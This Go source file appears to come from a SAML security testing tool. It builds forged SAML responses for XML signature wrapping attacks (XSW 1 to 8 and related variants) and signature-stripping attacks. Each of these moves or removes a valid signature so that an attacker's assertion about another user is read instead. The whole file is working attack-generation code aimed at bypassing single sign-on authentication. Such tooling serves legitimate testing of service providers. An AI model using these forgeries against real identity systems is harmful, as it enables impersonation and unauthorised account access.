package samlattack

import (
	"strings"
)

const (
	responseEnd = "</samlp:Response>"
	status      = "<samlp:Status>"
)

// A piece is a message cut up as a wrapping attack needs it.
type piece struct {
	good, signature, bare string // the signed element, its signature, the element without
	evil                  string // bare, about somebody else, under another ID
}

func (m *Message) cut() (doc string, p piece) {
	doc = m.Good()
	p.good = m.element(doc)
	p.signature = signaturePart.FindString(p.good)
	p.bare = strings.Replace(p.good, p.signature, "", 1)
	p.evil = m.evil(p.bare)
	return doc, p
}

// evil is an element of the attacker's: her text, another ID.
func (m *Message) evil(el string) string {
	return m.replaced(m.once(el, `ID="`+m.id+`"`, `ID="_evil"`), m.Genuine, m.Evil)
}

// after puts a child after the Issuer of an element, where Signatures belong.
func after(el, child string) string {
	return strings.Replace(el, "</saml:Issuer>", "</saml:Issuer>"+child, 1)
}

// last puts a child at the end of an element.
func last(el, child string) string {
	i := strings.LastIndex(el, "</")
	return el[:i] + child + el[i:]
}

func object(signature, content string) string {
	return strings.Replace(signature, "</ds:Signature>", "<ds:Object>"+content+"</ds:Object></ds:Signature>", 1)
}

// Wrapping are the attacks of Somorovsky et al., "On Breaking SAML" (XSW 1 to 8),
// and their relatives: a good signature stays in the message, and something else
// stands where the reader looks.
func (m *Message) Wrapping() []Attack {
	doc, p := m.cut()
	attacks := m.around(p)
	if strings.Contains(doc, "<saml:Assertion") {
		attacks = append(m.inResponse(doc, p), m.signedResponse()...)
	}
	for i := range attacks {
		attacks[i].Class = "wrapping"
	}
	return attacks
}

// around are the forms for a message whose root is signed.
func (m *Message) around(p piece) []Attack {
	extensions := func(content string) string { return "<samlp:Extensions>" + content + "</samlp:Extensions>" }
	sameID := m.replaced(p.bare, m.Genuine, m.Evil)
	return []Attack{
		{Name: "XSW1 original in the signature of the evil", Doc: after(p.evil, object(p.signature, p.bare))},
		{Name: "XSW2 signature and original as children", Doc: after(p.evil, p.signature+extensions(p.bare))},
		{Name: "XSW3 original in extensions, signature inside", Doc: after(p.evil, extensions(p.good))},
		{Name: "XSW4 original at the end", Doc: last(p.evil, p.good)},
		{Name: "XSW5 evil inside the original", Doc: last(p.good, p.evil)},
		{Name: "XSW6 original in an object, its signature outside", Doc: after(p.evil, object(p.signature, p.good))},
		{Name: "XSW7 evil in extensions of the original", Doc: after(p.good, extensions(p.evil))},
		{Name: "evil carries the signature", Doc: after(p.evil, p.signature)},
		{Name: "evil of the same ID carries it", Doc: after(sameID, p.signature)},
		{Name: "evil of the same ID, original inside", Doc: last(after(sameID, p.signature), p.bare)},
		{Name: "evil after the root", Doc: p.good + p.evil},
		{Name: "evil before the root", Doc: p.evil + p.good},
		{Name: "foreign root of the same name", Doc: `<x:` + rootName(p.good) + ` xmlns:x="urn:x" ID="_x">` + p.good + `</x:` + rootName(p.good) + `>`},
	}
}

func rootName(el string) string {
	name, _, _ := strings.Cut(el[1:], " ")
	_, local, _ := strings.Cut(name, ":")
	return local
}

// inResponse are the forms for a Response whose assertion is signed.
func (m *Message) inResponse(doc string, p piece) []Attack {
	put := func(assertion string) string { return strings.Replace(doc, p.good, assertion, 1) }
	sameID := m.replaced(p.bare, m.Genuine, m.Evil)
	return []Attack{
		{Name: "XSW3 evil before", Doc: put(p.evil + p.good)},
		{Name: "XSW3 evil after", Doc: put(p.good + p.evil)},
		{Name: "XSW4 original inside evil", Doc: put(last(p.evil, p.good))},
		{Name: "XSW5 evil carries the signature, original beside", Doc: put(after(p.evil, p.signature) + p.bare)},
		{Name: "XSW6 original in evil's signature", Doc: put(after(p.evil, object(p.signature, p.bare)))},
		{Name: "XSW7 evil in extensions", Doc: m.once(doc, status, "<samlp:Extensions>"+p.evil+"</samlp:Extensions>"+status)},
		{Name: "XSW8 original with its signature in an object", Doc: put(after(p.evil, object(p.signature, p.good)))},
		{Name: "evil of the same ID beside", Doc: put(sameID + p.good)},
		{Name: "evil of the same ID carries the signature", Doc: put(after(sameID, p.signature))},
		{Name: "evil carries the signature", Doc: put(after(p.evil, p.signature))},
		{Name: "signature moved to the response", Doc: m.once(put(p.evil), status, p.signature+status)},
		{Name: "original in advice", Doc: put(last(p.evil, "<saml:Advice>"+p.good+"</saml:Advice>"))},
		{Name: "second response after the root", Doc: doc + put(p.evil)},
		{Name: "foreign assertion around the evil", Doc: put(`<x:Assertion xmlns:x="urn:x">` + p.evil + `</x:Assertion>` + p.good)},
		{Name: "assertion in another namespace", Doc: strings.ReplaceAll(doc, "urn:oasis:names:tc:SAML:2.0:assertion", "urn:x")},
		{Name: "encrypted assertion beside", Doc: m.once(doc, responseEnd, `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>`+responseEnd)},
	}
}

// signedResponse are XSW 1 and 2, where the Response is what is signed.
func (m *Message) signedResponse() []Attack {
	whole := *m
	whole.id = idPart.FindStringSubmatch(m.whole)[1]
	signature := whole.signature(Seal{}, m.whole)
	evil := m.replaced(m.once(m.whole, `ID="`+whole.id+`"`, `ID="_evil"`), m.Genuine, m.Evil)
	good := after(m.whole, signature)
	return []Attack{
		{Name: "XSW1 original response in the signature", Doc: after(evil, object(signature, m.whole))},
		{Name: "XSW2 original response beside its signature", Doc: m.once(evil, status, m.whole+signature+status)},
		{Name: "response signature in extensions", Doc: m.once(good, signature, "<samlp:Extensions>"+signature+"</samlp:Extensions>")},
		{Name: "assertion of a signed response swapped", Doc: m.replaced(good, m.Genuine, m.Evil)},
	}
}

// Stripping takes signatures away.
func (m *Message) Stripping() []Attack {
	doc, p := m.cut()
	attacks := []Attack{
		{Name: "no signature", Doc: m.whole},
		{Name: "no signature, somebody else", Doc: m.replaced(m.whole, m.Genuine, m.Evil)},
		{Name: "empty signature", Doc: m.once(doc, p.signature, `<ds:Signature xmlns:ds="`+dsNS+`"></ds:Signature>`)},
		{Name: "signature in another namespace", Doc: strings.ReplaceAll(doc, dsNS, "urn:x")},
		{Name: "signature without a value", Doc: m.once(doc, "<ds:SignatureValue>", "<ds:SignatureValue></ds:SignatureValue><ds:X>")},
	}
	if p.good != doc {
		attacks = append(attacks, Attack{Name: "unsigned assertion beside a signed one", Doc: strings.Replace(doc, p.good, p.good+p.evil, 1)},
			Attack{Name: "unsigned assertion before a signed one", Doc: strings.Replace(doc, p.good, p.evil+p.good, 1)})
	}
	for i := range attacks {
		attacks[i].Class = "stripping"
	}
	return attacks
}
